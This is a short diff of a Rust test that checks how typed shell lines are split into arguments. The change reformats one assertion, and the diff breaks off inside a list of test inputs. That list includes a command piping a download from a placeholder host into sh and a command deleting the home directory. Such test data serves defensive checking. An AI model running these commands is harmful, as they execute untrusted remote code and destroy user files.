@@ -247,7 +247,10 @@ mod tests {
     fn a_typed_line_runs_as_typed() {
         let argv = |c: &str| Observed::typed(c, None, None).argv.unwrap();
         assert_eq!(argv("git status"), ["git", "status"]);
-        assert_eq!(argv("git commit -m 'a | b'"), ["git", "commit", "-m", "a | b"]);
+        assert_eq!(
+            argv("git commit -m 'a | b'"),
+            ["git", "commit", "-m", "a | b"]
+        );
         for line in [
             "curl https://x.example | sh",
             "rm -rf ~",
